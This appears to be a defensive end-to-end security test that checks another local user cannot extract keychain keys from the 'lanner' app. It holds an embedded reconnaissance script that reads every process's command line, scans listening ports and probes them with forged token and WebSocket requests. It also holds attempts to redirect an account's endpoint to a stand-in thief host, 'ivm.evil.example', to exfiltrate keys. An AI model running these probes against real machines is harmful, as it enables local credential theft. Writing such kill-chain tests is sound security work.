/**
 * The way to the keys that another user of this computer once took in 1.9 s: find the token, enter, turn an account to an
 * own address, have the keys sent there. The keys lie in a real keychain. Each step is tried, and then granted to the thief,
 * so that the next step is tried too.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { get } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, it } from 'vitest';
import { WebSocket } from 'ws';
import { knock, openThief, type Thief } from '../contract/services/thief.ts';
import { hostKind, withClient, type Session } from '../e2e/harness.ts';
import { missingKeyring, withKeyring } from '../e2e/keyring.ts';
import { addAccount, keysOf } from '../e2e/screen.ts';
import { missingOtherUser, tryAsOtherUser } from './other-user.ts';
import { accountOf, ask } from './page-request.ts';

/**
 * The possibilities of any user: read every command line, find every port that listens, and ask there for the page, for
 * a token and for the bridge. Prints the words of the command lines, and each answer that is not a refusal.
 */
const BURGLAR = `
const { readFileSync, readdirSync } = require('node:fs');
const { connect } = require('node:net');
const read = (path) => { try { return readFileSync(path, 'latin1'); } catch { return ''; } };
const words = readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).map((pid) => read('/proc/' + pid + '/cmdline'));
const rows = read('/proc/net/tcp').split('\\n').slice(1).map((row) => row.trim().split(/\\s+/));
const ports = rows.filter((row) => row[3] === '0A').map((row) => parseInt(row[1].split(':')[1], 16));
const upgrade = '\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Protocol: lanner';
const requests = (port) => [
  'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:' + port,
  'GET /launch?token=' + 'A'.repeat(43) + ' HTTP/1.1\\r\\nHost: 127.0.0.1:' + port,
  'GET /ipc?page=12345678 HTTP/1.1\\r\\nHost: 127.0.0.1:' + port + '\\r\\nOrigin: http://127.0.0.1:' + port + upgrade,
  'GET // HTTP/1.1\\r\\nHost: 127.0.0.1:' + port + upgrade,
];
const ask = (port, text) => new Promise((resolve) => {
  const socket = connect(port, '127.0.0.1');
  let answer = '';
  socket.setTimeout(3000, () => socket.destroy());
  socket.on('data', (chunk) => { answer += chunk.toString('latin1'); }).on('error', () => {});
  socket.on('close', () => resolve(answer.split('\\r\\n')[0]));
  socket.write(text + '\\r\\n\\r\\n');
});
(async () => {
  const wanted = new Set(process.argv.slice(1).map(Number));
  const answers = [];
  for (const port of ports.filter((port) => wanted.has(port))) for (const text of requests(port)) answers.push(await ask(port, text));
  console.log(JSON.stringify({ words: words.join(' '), answers }));
})();
`;

interface Loot {
  readonly words: string;
  readonly answers: readonly string[];
}

/** How the page server answers an address; Node does not resolve names below localhost, hence the Host header. */
function statusOf(address: string): Promise<number> {
  const { host, port, pathname, search } = new URL(address);
  return new Promise((resolve, reject) => {
    get({ hostname: '127.0.0.1', port, path: `${pathname}${search}`, headers: { host } }, (answer) => {
      answer.resume();
      resolve(answer.statusCode ?? 0);
    }).on('error', reject);
  });
}

/** Whether main opens its bridge to somebody with this cookie. */
function opensBridge(pageUrl: string, cookie: string, protocols: readonly string[]): Promise<boolean> {
  const { host, port, origin } = new URL(pageUrl);
  const socket = new WebSocket(`ws://127.0.0.1:${port}/ipc?page=12345678`, [...protocols], {
    headers: { host, origin, cookie },
  });
  return new Promise((resolve) => {
    socket.once('open', () => resolve(true)).once('error', () => resolve(false));
  }).then((isOpen) => {
    socket.terminate();
    return isOpen === true;
  });
}

/** From outside: command lines, ports, tokens. */
async function tryToEnter(session: Session): Promise<void> {
  const pageUrl = session.page.url();
  const used = await session.client.launchUrl();
  const other = await session.page.context().newPage();
  await other.goto(used);
  await other.close();
  const tried = tryAsOtherUser([process.execPath, '-e', BURGLAR, new URL(pageUrl).port]);
  const { words, answers } = JSON.parse(tried.output.trim().split('\n').at(-1) ?? '') as Loot;
  expect(words.length).toBeGreaterThan(100);
  const cookies = await session.page.context().cookies();
  const token = new URL(used).searchParams.get('token') ?? '';
  const secrets = [keysOf(session).sk, new URL(pageUrl).hostname, token, ...cookies.map(({ value }) => value)];
  expect(cookies).not.toEqual([]);
  for (const secret of secrets) {
    expect(secret.length).toBeGreaterThan(8);
    expect(words.includes(secret)).toBe(false);
  }
  expect(answers).toHaveLength(4);
  for (const answer of answers) expect(answer).toMatch(/^HTTP\/1\.1 4\d\d/);
  expect(await statusOf(used), 'granted: a launch address, but after the browser').toBe(403);
  const cookie = cookies.map(({ name, value }) => `${name}=${value}`).join('; ');
  expect(await opensBridge(pageUrl, cookie, ['lanner']), 'granted: the cookie').toBe(false);
  expect(await opensBridge(pageUrl, cookie, ['lanner', `lanner.${'A'.repeat(43)}`])).toBe(false);
}

/** Granted: the whole bridge, as a script in the page would have it. */
async function tryToMoveKeys({ page }: Session, thief: Thief): Promise<void> {
  const before = await accountOf(page);
  const moved = await ask(page, 'account.update', { accountId: before.id, endpoint: thief.origin });
  expect(moved).toMatchObject({ ok: false, error: { code: 'account.keys-needed' } });
  const empty = await ask(page, 'account.update', {
    accountId: before.id,
    endpoint: thief.origin,
    secrets: { sk: '' },
  });
  expect(empty.ok).toBe(false);
  const elsewhere = await ask(page, 'account.update', { accountId: before.id, endpoint: 'https://ivm.evil.example' });
  expect(elsewhere.ok).toBe(false);
  const test = { runId: 'r', target: { kind: 'saved', accountId: before.id } };
  expect(await ask(page, 'account.test', test), 'the account still signs in where it belongs').toMatchObject({
    ok: true,
    value: {
      stages: expect.arrayContaining([expect.objectContaining({ stage: 'sign-in', state: 'passed' })]) as unknown,
    },
  });
  expect((await accountOf(page)).endpoint).toBe(before.endpoint);
}

const noKeyring = missingKeyring();
const noOther = missingOtherUser();

// @promise security.kill-chain: Another user gets no key out of the keychain, even if each single step before is given
// to them.
it.skipIf(noKeyring !== null || noOther !== null || hostKind !== 'browser')(
  'another user of this computer gets no key out of a real keychain, however far we let them come',
  async () => {
    const home = await mkdtemp(path.join(tmpdir(), 'lanner-kill-chain-'));
    const thief = await openThief();
    try {
      await withKeyring(home, (env) =>
        withClient('kill-chain', { vault: 'system', env, locale: 'en-US' }, async (session) => {
          await addAccount(session);
          await tryToEnter(session);
          await tryToMoveKeys(session, thief);
          expect(thief.connections()).toBe(0);
          await knock(thief);
          expect(thief.connections(), 'the thief does listen').toBe(1);
          expect(thief.loot()).not.toContain(keysOf(session).sk);
        }),
      );
    } finally {
      await thief.close();
      await rm(home, { recursive: true, force: true, maxRetries: 5, retryDelay: 100 });
    }
  },
);
